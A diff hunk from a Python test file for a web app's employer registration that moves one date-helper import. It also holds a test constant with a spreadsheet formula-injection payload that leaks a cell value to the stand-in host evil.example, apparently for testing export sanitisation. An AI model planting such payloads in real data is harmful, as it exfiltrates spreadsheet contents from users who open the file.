@@ -9,8 +9,9 @@ import pytest
 from tests.conftest import PASSWORD, make_user
 from tests.factories import registered_employer
 from tests.support import csrf_token, login
+from webapp.clock import malaysia_today
 from webapp.db import database
-from webapp.models import Employment, Person, malaysia_today
+from webapp.models import Employment, Person
 from webapp.services import registration
 
 PLANTED = '=HYPERLINK("https://evil.example/?leak="&B2,"Click for details")'
